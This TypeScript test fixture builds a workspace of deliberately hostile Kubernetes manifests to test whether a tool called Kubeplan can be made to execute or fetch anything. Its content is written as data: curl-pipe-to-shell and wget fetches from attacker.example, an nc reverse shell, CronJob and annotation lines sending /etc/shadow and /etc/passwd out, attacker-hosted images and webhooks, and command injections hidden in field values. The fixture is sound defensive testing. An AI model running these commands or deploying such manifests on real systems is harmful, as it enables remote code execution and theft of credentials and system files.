/**
 * A workspace of manifests that try to get Kubeplan to run or fetch something: shell
 * commands with `$(…)` and backticks in commands, args, lifecycle hooks and exec probes;
 * probes and hooks aimed at other hosts; image names on attacker registries; URLs in
 * annotations, webhooks, CRD conversion and ExternalName Services; Ingress hosts. Every
 * command touches a canary file, so even a path the sandbox missed would leave a trace.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export interface HostileWorkspace {
  root: string;
  files: Record<string, string>;
  /** A file every hostile command would create. It must not exist after the session. */
  canary: string;
}

export function hostileWorkspace(): HostileWorkspace {
  const root = mkdtempSync(join(tmpdir(), 'kubeplan-hostile-ws-'));
  const canary = join(root, 'PWNED');
  const sh = (what: string) => `touch ${canary}; ${what}`;
  const files: Record<string, string> = {
    'deploy.yaml': `apiVersion: apps/v1
kind: Deployment
metadata:
  name: evil
  namespace: shop
  annotations:
    link.argocd.argoproj.io/external-link: https://attacker.example/collect?c=$(cat /etc/passwd)
    kubeplan.dev/docs: http://169.254.169.254/latest/meta-data/
    sim.kubeplan.dev/startup-seconds: "$(touch ${canary})"
spec:
  replicas: 2
  selector: {matchLabels: {app: evil}}
  template:
    metadata:
      labels: {app: evil}
      annotations: {sim.kubeplan.dev/cpu-curve: "\`touch ${canary}\`"}
    spec:
      initContainers:
        - name: init
          image: attacker.example:5000/pwn@sha256:0000000000000000000000000000000000000000000000000000000000000000
          command: ["sh", "-c", "${sh('curl http://attacker.example/$(hostname) | sh')}"]
      containers:
        - name: app
          image: registry.attacker.example/app:latest
          command: ["/bin/sh", "-c"]
          args: ["${sh('$(wget -qO- http://attacker.example)')}"]
          env: [{name: X, value: "\`touch ${canary}\`"}]
          lifecycle:
            postStart: {exec: {command: ["sh", "-c", "${sh('nc attacker.example 4444 -e /bin/sh')}"]}}
            preStop: {httpGet: {host: attacker.example, path: /stop, port: 80}}
          livenessProbe: {exec: {command: ["sh", "-c", "${sh('true')}"]}}
          readinessProbe: {httpGet: {host: 127.0.0.1, port: 22, path: /}}
          startupProbe: {tcpSocket: {host: attacker.example, port: 443}}
          resources: {requests: {cpu: 100m, memory: 64Mi}, limits: {memory: 64Mi}}
`,
    'network.yaml': `apiVersion: v1
kind: Service
metadata: {name: out, namespace: shop}
spec: {type: ExternalName, externalName: attacker.example}
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: {name: evil, namespace: shop}
spec:
  tls: [{hosts: [attacker.example], secretName: tls}]
  rules:
    - host: attacker.example
      http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: out, port: {number: 80}}}}]}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: {name: evil}
webhooks:
  - name: evil.attacker.example
    clientConfig: {url: "https://attacker.example/validate"}
    admissionReviewVersions: [v1]
    sideEffects: None
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: gadgets.attacker.example}
spec:
  group: attacker.example
  names: {kind: Gadget, plural: gadgets}
  scope: Namespaced
  conversion: {strategy: Webhook, webhook: {clientConfig: {url: "https://attacker.example/convert"}, conversionReviewVersions: [v1]}}
  versions:
    - name: v1
      served: true
      storage: true
      schema: {openAPIV3Schema: {type: object, properties: {spec: {type: object, x-kubernetes-preserve-unknown-fields: true}}}}
---
apiVersion: attacker.example/v1
kind: Gadget
metadata: {name: g, namespace: shop}
spec: {run: "$(touch ${canary})"}
`,
    'pod.yaml': `apiVersion: v1
kind: Pod
metadata: {name: "p", namespace: shop}
spec:
  imagePullSecrets: [{name: "$(touch ${canary})"}]
  hostNetwork: true
  containers:
    - name: c
      image: "$(touch ${canary})"
      command: ["\`touch ${canary}\`"]
---
apiVersion: batch/v1
kind: CronJob
metadata: {name: exfil, namespace: shop}
spec:
  schedule: "* * * * *"
  jobTemplate:
    spec:
      template:
        spec:
          restartPolicy: Never
          containers: [{name: c, image: curlimages/curl, args: ["-d", "@/etc/shadow", "https://attacker.example"]}]
`,
    '.kubeplan.yaml': `kubernetesVersion: "1.29"
rules:
  mutable-image-tag: warning
external:
  - {kind: Secret, namespace: shop, name: tls}
`,
    '.kubeplan/cluster.yaml': `apiVersion: v1
kind: Node
metadata:
  name: "attacker.example"
  labels: {kubernetes.io/hostname: "$(touch ${canary})", topology.kubernetes.io/zone: a}
status:
  capacity: {cpu: "4", memory: 16Gi, pods: "110"}
---
apiVersion: v1
kind: Node
metadata: {name: "n2", labels: {topology.kubernetes.io/zone: b}}
status:
  capacity: {cpu: "4", memory: 16Gi, pods: "110"}
`,
  };
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(root, name, '..'), { recursive: true });
    writeFileSync(join(root, name), text);
  }
  return { root, files, canary };
}
